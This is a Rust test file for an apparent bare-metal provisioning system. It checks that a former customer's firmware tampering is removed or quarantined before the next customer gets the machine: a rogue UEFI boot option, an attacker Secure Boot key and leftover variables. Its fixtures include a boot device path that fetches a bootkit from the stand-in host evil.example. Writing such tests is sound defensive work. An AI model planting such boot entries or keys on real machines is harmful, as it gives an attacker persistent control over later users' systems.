//! Changes that a customer's system leaves in the firmware of its machine. The attacker has root on a handed-over machine,
//! returns it, and tries to start its own program on it when the next customer has it.

use std::net::SocketAddrV4;
use std::path::Path;

use rackwright_sim::fleet::{Fleet, FleetConfig, SimNode, UefiFault};
use rackwright_sim::install_crypto;
use rackwright_tests::plane::{Plane, TEST_LIMIT};
use rackwright_tests::ports::free_port;
use rackwright_tests::site::{Site, texts};

const BOOTKIT: &str = "Evil Boot Manager";
const DEVICE: &str =
    "PciRoot(0x0)/Pci(0x2,0x0)/MAC(525400000000,0x1)/IPv4(0.0.0.0)/Uri(http://evil.example/bootkit.efi)";
const ORDER: [&str; 2] = ["UEFI PXE IPv4", "UEFI Disk"];

/// A control plane and machines, all handed over to customers. `prepare` sees each machine before its enrolment.
struct Hall {
    plane: Plane,
    fleet: Fleet,
}

/// Attributes and value of a UEFI variable that outlives a restart, as efivarfs shows it.
const LASTING: &[u8] = b"\x07\0\0\0a value";
/// A vendor GUID that the firmware of the machines uses, and one that it does not use.
const FIRMWARE: &str = "11111111-2222-3333-4444-555555555555";
const NOT_FIRMWARE: &str = "99999999-2222-3333-4444-555555555555";
/// The vendor GUID of the variables of the UEFI specification.
const GLOBAL: &str = "8be4df61-93ca-11d2-aa0d-00e098032b8c";

impl Hall {
    async fn start(dir: &Path, nodes: usize, further: &str, prepare: impl Fn(&SimNode)) -> Self {
        install_crypto();
        let ssh = free_port();
        let further = format!("ssh_port: {ssh}\n{further}");
        let plane = Plane::start_with(dir, "pxe", &further).await;
        let config = FleetConfig {
            nodes,
            boot_server: Some(plane.dhcp),
            tftp_port: plane.tftp_port,
            ssh_listen: Some(SocketAddrV4::new([0, 0, 0, 0].into(), ssh)),
            efivars: Some(dir.join("efivars")),
            ..FleetConfig::default()
        };
        for index in 0..nodes {
            let folder = dir.join("efivars").join(index.to_string());
            std::fs::create_dir_all(&folder).expect("a folder of variables");
            std::fs::write(folder.join(format!("Setup-{FIRMWARE}")), LASTING).expect("a variable");
        }
        let fleet = Fleet::start(config).await.expect("the fleet starts");
        for index in 0..fleet.nodes() {
            prepare(&fleet.node(index));
        }
        plane.enrol(&fleet, |_| "lab".to_owned()).await;
        let image = dir.join("disk.raw");
        std::fs::write(&image, vec![7; 1 << 20]).expect("an image");
        let image = image.display().to_string();
        plane
            .site
            .cli(["image", "add", "disk", "--file", &image, "--format", "raw"]);
        let hall = Self { plane, fleet };
        for index in 0..nodes {
            let id = hall.fleet.node(index).name();
            hall.site().cli(["node", "deploy", &id, "--image", "disk"]);
        }
        for index in 0..nodes {
            let id = hall.fleet.node(index).name();
            hall.site().until(&id, &["active"], TEST_LIMIT).await;
        }
        hall
    }

    fn site(&self) -> &Site {
        &self.plane.site
    }

    /// Releases or readmits a machine and returns its final state.
    fn state_after(&self, verb: &str, node: &SimNode) -> String {
        let output = self.site().try_cli(["node", verb, "--yes", "--wait", &node.name()]);
        let ended = output.status.code().is_some_and(|code| matches!(code, 0 | 7));
        assert!(ended, "{:?}", texts(&output));
        self.site().state(&node.name())
    }

    fn events_and_explanation(&self, node: &SimNode) -> (String, String) {
        let target = format!("nodes/{}", node.name());
        (
            self.site().cli(["events", "--target", &target, "-o", "json"]),
            self.site().cli(["node", "explain", &node.name()]),
        )
    }

    async fn end(self) {
        self.plane.site.stop().await;
        self.fleet.stop().await;
    }
}

/// A certificate of the attacker's.
fn own_key() -> String {
    let key = rcgen::KeyPair::generate().expect("a key");
    let params = rcgen::CertificateParams::new(vec!["evil.example".to_owned()]).expect("a name");
    params.self_signed(&key).expect("a certificate").pem()
}

fn as_before(node: &SimNode) -> bool {
    node.uefi() == (ORDER.map(str::to_owned).to_vec(), 1, true)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_customers_boot_option_and_key_are_removed_before_the_next_customer_gets_the_machine() {
    let dir = tempfile::tempdir().expect("a folder");
    let hall = Hall::start(dir.path(), 3, "", |node| node.switch_secure_boot(true)).await;
    let (site, robbed, slow, honest) = (hall.site(), hall.fleet.node(0), hall.fleet.node(1), hall.fleet.node(2));
    for node in [&robbed, &slow] {
        node.add_boot_option(BOOTKIT, DEVICE);
        assert_eq!(node.uefi().0[0], BOOTKIT);
    }
    robbed.add_key_in_db(&own_key());
    robbed.switch_secure_boot(false);
    // This BMC does not remove boot options, and applies a new boot order from the next start.
    slow.set_uefi_fault(UefiFault::KeepsOptions);

    assert_eq!(
        hall.state_after("release", &robbed),
        "available",
        "{}",
        site.reason(&robbed.name())
    );
    assert!(as_before(&robbed), "{:?}", robbed.uefi());
    let (events, explained) = hall.events_and_explanation(&robbed);
    // The option, the order that began with it, the key, and Secure Boot.
    assert_eq!(events.matches("security.bmc-foreign-removed").count(), 4, "{events}");
    for word in [BOOTKIT, "Secure Boot key", "Secure Boot \\\"off\\\" (expected: on)"] {
        assert!(events.contains(word), "{word}: {events}");
    }
    for word in ["compared with the reading of", "boot option \"Evil Boot Manager\""] {
        assert!(explained.contains(word), "{word}: {explained}");
    }

    assert_eq!(
        hall.state_after("release", &slow),
        "available",
        "{}",
        site.reason(&slow.name())
    );
    let order = slow.uefi().0;
    assert_eq!(order, [ORDER[0], ORDER[1], BOOTKIT], "it is after ours");
    let (events, explained) = hall.events_and_explanation(&slow);
    // Only the order was corrected, by the start of the machine.
    assert_eq!(events.matches("security.bmc-foreign-removed").count(), 1, "{events}");
    assert!(
        explained.contains("foreign and still present: boot option \"Evil Boot Manager\""),
        "{explained}"
    );

    assert_eq!(
        hall.state_after("release", &honest),
        "available",
        "{}",
        site.reason(&honest.name())
    );
    assert!(as_before(&honest), "{:?}", honest.uefi());
    let (events, explained) = hall.events_and_explanation(&honest);
    assert!(!events.contains("bmc-foreign"), "{events}");
    assert!(explained.contains("nothing foreign. proven"), "{explained}");
    hall.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_machine_with_a_boot_order_or_keys_that_cannot_be_restored_is_quarantined() {
    let dir = tempfile::tempdir().expect("a folder");
    let hall = Hall::start(dir.path(), 4, "", |node| node.switch_secure_boot(true)).await;
    let site = hall.site();
    let cases: [(UefiFault, &[&str]); 4] = [
        (
            UefiFault::KeepsOrder,
            &["boot order \"Evil Boot Manager, UEFI PXE IPv4", "BootOrder", "readmit"],
        ),
        (
            UefiFault::KeepsKeys,
            &["Secure Boot key", "in db", "Certificates/1", "readmit"],
        ),
        (
            UefiFault::FailsKeys,
            &[
                "Secure Boot keys",
                "500",
                "unknown: allow",
                "rackwright.bmc-state=unknown-allowed",
            ],
        ),
        // A reset of the database is as good as the removal of the key.
        (UefiFault::ResetsKeysOnly, &[]),
    ];
    for (index, (fault, words)) in cases.iter().enumerate() {
        let node = hall.fleet.node(index);
        node.add_boot_option(BOOTKIT, DEVICE);
        node.add_key_in_db(&own_key());
        node.set_uefi_fault(*fault);
        let boots = node.view().boots;
        let ended = hall.state_after("release", &node);
        let reason = site.reason(&node.name());
        if words.is_empty() {
            assert_eq!(ended, "available", "{fault:?}: {reason}");
            assert!(as_before(&node), "{fault:?}: {:?}", node.uefi());
            continue;
        }
        assert_eq!(ended, "quarantined", "{fault:?}");
        for word in *words {
            assert!(reason.contains(word), "{fault:?}: {word:?} is not in: {reason}");
        }
        assert_eq!(node.view().boots, boots, "{fault:?}: it is not booted before");
    }
    // BMCs that work again are corrected when the node is readmitted.
    for index in 0..3 {
        let node = hall.fleet.node(index);
        node.set_uefi_fault(UefiFault::None);
        assert_eq!(
            hall.state_after("readmit", &node),
            "available",
            "{}",
            site.reason(&node.name())
        );
        assert!(as_before(&node), "{:?}", node.uefi());
    }
    hall.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uefi_variables_of_a_customer_are_removed_and_new_ones_of_the_firmware_are_reported() {
    let dir = tempfile::tempdir().expect("a folder");
    let hall = Hall::start(dir.path(), 2, "", |node| node.switch_secure_boot(true)).await;
    let (site, left, honest) = (hall.site(), hall.fleet.node(0), hall.fleet.node(1));
    let variables = dir.path().join("efivars/0");
    // A driver that the firmware would start before the boot loader, a crash dump of Linux, and a letter to the next customer.
    let foreign = [
        format!("Driver0000-{GLOBAL}"),
        format!("DriverOrder-{GLOBAL}"),
        "dump-type0-1-1-1700000000-C-cfc8fc79-be2e-4ddc-97f0-9f98bfe298a0".to_owned(),
        format!("Letter-{NOT_FIRMWARE}"),
    ];
    let unsure = format!("Setup2-{FIRMWARE}");
    for name in foreign.iter().chain([&unsure]) {
        std::fs::write(variables.join(name), LASTING).expect("a variable");
    }
    for node in [&left, &honest] {
        assert_eq!(hall.state_after("release", node), "available", "{}", node.name());
    }
    for name in &foreign {
        assert!(!variables.join(name).exists(), "{name}");
    }
    assert!(variables.join(&unsure).exists());
    assert!(variables.join(format!("Setup-{FIRMWARE}")).exists());

    let (events, _) = hall.events_and_explanation(&left);
    assert!(events.contains("security.uefi-variables"), "{events}");
    for name in foreign.iter().chain([&unsure]) {
        assert!(events.contains(name), "{name}: {events}");
    }
    let certificates = |node: &SimNode| site.cli(["node", "certificates", &node.name(), "-o", "json"]);
    let words = certificates(&left);
    assert!(
        words.contains("UEFI variables: 4 of a former system removed"),
        "{words}"
    );
    assert!(words.contains(&format!("were not removed: {unsure}")), "{words}");
    let (events, _) = hall.events_and_explanation(&honest);
    assert!(!events.contains("security.uefi-variables"), "{events}");
    let words = certificates(&honest);
    assert!(
        words.contains("UEFI variables: none of a former system found"),
        "{words}"
    );
    hall.end().await;
}
